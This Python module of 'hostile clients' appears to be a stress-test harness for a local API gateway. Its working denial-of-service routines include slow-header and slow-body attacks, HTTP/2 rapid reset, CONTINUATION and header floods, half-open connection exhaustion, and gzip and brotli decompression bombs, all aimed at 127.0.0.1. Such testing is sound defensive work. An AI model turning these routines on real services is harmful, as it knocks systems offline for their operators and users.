"""Hostile clients. Each function attacks a port until its event is set."""

import base64
import contextlib
import functools
import json
import select
import socket
import struct
import time
import zlib

# Linux: IP_BIND_ADDRESS_NO_PORT.
BIND_ADDRESS_NO_PORT = 24

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM, CONTINUATION = 4, 1, 3, 9


# Paths whose bodies are held.
HOLDING = ("/v1/messages", "/v1/compress", "/tools", "/plugins")

# 64 MiB of one letter.
BROTLI = base64.b64decode("y///PwAkwuKxQHLv//j//weABEAcFoDu/R////8AkACIwwLQvf/j//8fABIAcVgAuvd//P//A0ACIA4LQPf+j///fwBIAMRhAeje//H//w8ACYA4LADd+7/8//8DIAEQhwWge/8H")


def connect(port, host=2, receive=None):
    """A connection from 127.0.0.HOST."""
    sock = socket.socket()
    if receive:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    sock.settimeout(5)
    # The port is chosen with the connection: a search for one that is free at all takes milliseconds among thousands.
    sock.setsockopt(socket.SOL_IP, BIND_ADDRESS_NO_PORT, 1)
    sock.bind((f"127.0.0.{host}", 0))
    sock.connect(("127.0.0.1", port))
    return sock


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def request(path):
    """HPACK: GET, http, literal path and authority."""
    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x01h"


def keep(port, stop, count, start, again=None):
    """Keeps this many connections open; `again` is sent on each about once a second. Closed ones are replaced."""
    open_now = []
    while not stop.is_set():
        left = []
        for sock in open_now:
            try:
                if again:
                    sock.sendall(again)
                sock.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    # A stalled reader reads nothing: only an error or the end is of interest.
                    if sock.recv(1, socket.MSG_PEEK) == b"":
                        sock.close()
                        continue
                sock.settimeout(5)
                left.append(sock)
            except OSError:
                sock.close()
        open_now = left
        for _ in range(min(500, count - len(open_now))):
            with contextlib.suppress(OSError):
                sock = connect(port, receive=4096)
                sock.sendall(start)
                open_now.append(sock)
        stop.wait(1 if len(open_now) >= count else 0.05)


def stalled_http1(port, stop):
    keep(port, stop, 1000, b"GET /large.bin HTTP/1.1\r\nhost: h\r\n\r\n")


def stalled_http2(port, stop):
    no_window = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0))
    streams = b"".join(frame(HEADERS, 5, number * 2 + 1, request(b"/large.bin")) for number in range(100))
    keep(port, stop, 20, no_window + streams)


def slow_heads(port, stop):
    keep(port, stop, 500, b"GET / HTTP/1.1\r\nhost: h\r\nx-a: ", b"a")


def slow_bodies(port, stop):
    keep(port, stop, 500, b"POST /4k.json HTTP/1.1\r\nhost: h\r\ncontent-length: 100000\r\n\r\n", b"a")


def half_open(port, stop, host):
    """A quarter of ten thousand connections that say nothing, from one address, and some more. The gateway closes each of them
    after `timeouts.request`; others take their places."""
    closed, open_now = select.epoll(), {}
    while not stop.is_set():
        for number, _ in closed.poll(0):
            open_now.pop(number).close()
        for _ in range(min(200, 2900 - len(open_now))):
            with contextlib.suppress(OSError):
                sock = connect(port, host, 4096)
                closed.register(sock, select.EPOLLIN | select.EPOLLRDHUP)
                open_now[sock.fileno()] = sock
        stop.wait(0.02)


def flood(port, stop, start, batch, pause):
    """Sends batches on one connection after another, as fast as the other end takes them but for a pause."""
    while not stop.is_set():
        with contextlib.suppress(OSError):
            sock = connect(port)
            sock.sendall(start)
            for number in range(1, 1_000_000):
                sock.sendall(batch(number))
                sock.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    if sock.recv(1 << 16) == b"":
                        break
                sock.settimeout(5)
                if stop.is_set():
                    break
                time.sleep(pause)
            sock.close()


def rapid_reset(port, stop):
    def batch(number):
        streams = [(number * 50 + offset) * 2 + 1 for offset in range(50)]
        cancel = struct.pack("!I", 8)
        return b"".join(frame(HEADERS, 5, stream, request(b"/4k.json")) + frame(RST_STREAM, 0, stream, cancel) for stream in streams)

    flood(port, stop, PREFACE + frame(SETTINGS, 0, 0), batch, 0.01)


def header_flood(port, stop):
    lines = b"".join(b"x-%d: %s\r\n" % (number, b"a" * 500) for number in range(50))
    flood(port, stop, b"GET / HTTP/1.1\r\nhost: h\r\n", lambda _: lines, 0.005)


def continuation_flood(port, stop):
    # An incomplete header block of 8 KB frames, which never ends.
    chunk = b"\x00\x07x-flood\x7f\x81\x3e" + b"a" * 8000
    start = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 1, 1, request(b"/"))
    flood(port, stop, start, lambda _: frame(CONTINUATION, 0, 1, chunk), 0.002)


def post(path, body, headers="", length=None):
    length = len(body) if length is None else length
    head = f"POST {path} HTTP/1.1\r\nhost: h\r\ncontent-type: application/json\r\n{headers}content-length: {length}\r\n\r\n"
    return head.encode() + body


def repeat(port, stop, requests, wait=True):
    """Sends each of these requests on a connection of its own, again and again, and reads the head of the answer or leaves at once."""
    while not stop.is_set():
        for request in requests:
            with contextlib.suppress(OSError), connect(port) as sock:
                sock.sendall(request)
                if wait:
                    sock.recv(1 << 16)
        if not wait:
            stop.wait(0.005)


def chat(text, **more):
    call = {"type": "tool_use", "id": "t1", "name": "run", "input": {}}
    result = {"type": "tool_result", "tool_use_id": "t1", "content": text}
    messages = [{"role": "assistant", "content": [call]}, {"role": "user", "content": [result]}]
    return json.dumps({"model": "m", "max_tokens": 9, "messages": messages, **more}).encode()


def coded_bombs(port, stop):
    def gzip(mebibytes):
        coder = zlib.compressobj(9, zlib.DEFLATED, 31)
        return coder.compress(b'{"messages":[],"x":"' + b"a" * (mebibytes << 20) + b'"}') + coder.flush()

    gzipped = [post("/v1/messages", gzip(size), "content-encoding: gzip\r\n") for size in (1, 2, 3, 30)]
    repeat(port, stop, gzipped + [post("/v1/messages", BROTLI, "content-encoding: br\r\n")] * 8)


def announced_lengths(port, stop, path):
    keep(port, stop, 45, post(path, b"{", length=2_000_000))


def unsent_bodies(port, stop, path):
    keep(port, stop, 45, post(path, b"[" + b" " * 1_000_000, length=2_000_000), b" ")


def one_byte_chunks(port, stop):
    body = b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"x","a":"' + b"a" * (1 << 18) + b'"}}'
    chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in body)
    ask = b"accept: application/json, text/event-stream\r\nx-prefer-format: stc2\r\ntransfer-encoding: chunked\r\n\r\n"
    heads = [b"POST %s HTTP/1.1\r\nhost: h\r\ncontent-type: application/json\r\n" % path for path in (b"/mcp", b"/tools", b"/v1/messages")]
    repeat(port, stop, [head + ask + chunks + b"0\r\n\r\n" for head in heads])


def converted_slow(port, stop):
    keep(port, stop, 150, b"GET /large.json HTTP/1.1\r\nhost: h\r\nx-prefer-format: stc2\r\n\r\n")


def leaving(port, stop):
    rows = json.dumps([{"id": number, "state": "open", "kind": "sensor"} for number in range(9000)])
    repeat(port, stop, [post("/v1/messages", chat(rows)), post("/v1/compress", chat(rows))], wait=False)


def keys_and_blanks(port, stop):
    tools = [{"name": "run", "description": "d", "input_schema": "SCHEMA"}]
    keys = "{" + ",".join('"type":"object"' for _ in range(16_000)) + "}"
    keys = chat("x", tools=tools, _stc={"schemas": "minify"}).replace(b'"SCHEMA"', keys.encode())
    blanks = [chat("\n" * 32_000, _stc={"mode": mode}) for mode in ("standard", "aggressive")]
    repeat(port, stop, [post("/v1/messages", body) for body in (keys, *blanks)])


# The functions of each attack; each runs in a process of its own.
ATTACKS = {
    "stalled readers, HTTP/1": [stalled_http1],
    "stalled readers, HTTP/2": [stalled_http2],
    "slow heads": [slow_heads],
    "slow bodies": [slow_bodies],
    "rapid resets": [rapid_reset],
    "header flood": [header_flood],
    "CONTINUATION flood": [continuation_flood],
    "half-open connections": [functools.partial(half_open, host=host) for host in (3, 4, 5, 6)],
    "coded bombs": [coded_bombs] * 2,
    "announced lengths": [functools.partial(announced_lengths, path=path) for path in HOLDING],
    "bodies that never end": [functools.partial(unsent_bodies, path=path) for path in HOLDING],
    "one-byte chunks": [one_byte_chunks] * 2,
    "slow readers of converted bodies": [converted_slow],
    "jobs of clients that leave": [leaving],
    "repeated keys and blank lines": [keys_and_blanks],
}
